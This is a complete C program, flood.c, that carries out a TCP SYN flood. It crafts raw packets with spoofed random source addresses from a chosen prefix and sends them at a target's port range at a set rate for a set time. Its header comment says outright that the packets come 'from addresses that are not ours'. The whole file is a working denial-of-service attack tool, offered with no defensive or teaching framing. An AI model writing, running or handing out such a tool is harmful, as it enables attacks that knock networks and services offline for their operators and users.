/* flood.c - SYNs by the hundred thousand, from addresses that are not ours or from one that is.
 *   flood SOURCE/LEN TARGET FIRST-LAST PER_SECOND SECONDS      a random source of the prefix, a random port of the range
 * Ends with the number of packets sent on its standard output. */
#define _GNU_SOURCE
#include <arpa/inet.h>
#include <netinet/ip.h>
#include <netinet/tcp.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <time.h>
#include <unistd.h>

enum { ROW = 64, SIZE = sizeof(struct iphdr) + sizeof(struct tcphdr) };

static uint64_t dice = 88172645463325252ull;

static uint32_t roll(void)
{
    dice ^= dice << 13;
    dice ^= dice >> 7;
    dice ^= dice << 17;
    return (uint32_t)(dice >> 16);
}

static double now_s(void)
{
    struct timespec ts;

    clock_gettime(CLOCK_MONOTONIC, &ts);
    return (double)ts.tv_sec + (double)ts.tv_nsec / 1e9;
}

/* Words in network order, folded. */
static uint16_t sum16(const void *data, size_t len, uint32_t sum)
{
    const uint8_t *p = data;

    for (size_t i = 0; i + 1 < len; i += 2)
        sum += (uint32_t)p[i] << 8 | p[i + 1];
    while (sum >> 16)
        sum = (sum & 0xffff) + (sum >> 16);
    return (uint16_t)sum;
}

static void make_syn(uint8_t *at, uint32_t source, uint32_t target, uint16_t port)
{
    struct iphdr ip = { .version = 4, .ihl = 5, .ttl = 64, .protocol = IPPROTO_TCP, .tot_len = htons(SIZE) };
    struct tcphdr tcp = { .syn = 1, .doff = 5, .window = htons(65535) };

    ip.saddr = htonl(source);
    ip.daddr = htonl(target);
    tcp.source = htons((uint16_t)(1024 + roll() % 60000));
    tcp.dest = htons(port);
    tcp.seq = htonl(roll());
    tcp.check = htons((uint16_t)~sum16(&tcp, sizeof(tcp), sum16(&ip.saddr, 8, IPPROTO_TCP + sizeof(tcp))));
    memcpy(at, &ip, sizeof(ip));
    memcpy(at + sizeof(ip), &tcp, sizeof(tcp));
}

int main(int argc, char **argv)
{
    static uint8_t packets[ROW][SIZE];
    struct mmsghdr row[ROW] = { 0 };
    struct iovec iov[ROW];
    struct sockaddr_in to = { .sin_family = AF_INET };
    struct in_addr source;
    char *slash = argc == 6 ? strchr(argv[1], '/') : NULL;
    int fd = socket(AF_INET, SOCK_RAW, IPPROTO_RAW), first, last, bits;
    double rate, start = now_s(), end;
    uint64_t sent = 0;

    if (slash == NULL || fd < 0)
        return 2;
    *slash = 0;
    bits = 32 - atoi(slash + 1);
    if (inet_pton(AF_INET, argv[1], &source) != 1 || inet_pton(AF_INET, argv[2], &to.sin_addr) != 1 ||
        sscanf(argv[3], "%d-%d", &first, &last) != 2 || last < first)
        return 2;
    rate = atof(argv[4]);
    end = start + atof(argv[5]);
    for (int i = 0; i < ROW; i++) {
        iov[i] = (struct iovec){ packets[i], SIZE };
        row[i].msg_hdr = (struct msghdr){
            .msg_name = &to, .msg_namelen = sizeof(to), .msg_iov = &iov[i], .msg_iovlen = 1
        };
    }
    for (double now = start; now < end; now = now_s()) {
        int n;

        if ((double)sent > (now - start) * rate) {
            usleep(200);
            continue;
        }
        for (int i = 0; i < ROW; i++) {
            uint32_t host = bits > 0 ? roll() & (uint32_t)((1ull << bits) - 1) : 0;

            make_syn(packets[i], ntohl(source.s_addr) + host, ntohl(to.sin_addr.s_addr),
                     (uint16_t)((uint32_t)first + roll() % (uint32_t)(last - first + 1)));
        }
        n = sendmmsg(fd, row, ROW, 0);
        sent += n > 0 ? (uint64_t)n : 0;
    }
    printf("%llu\n", (unsigned long long)sent);
    return 0;
}
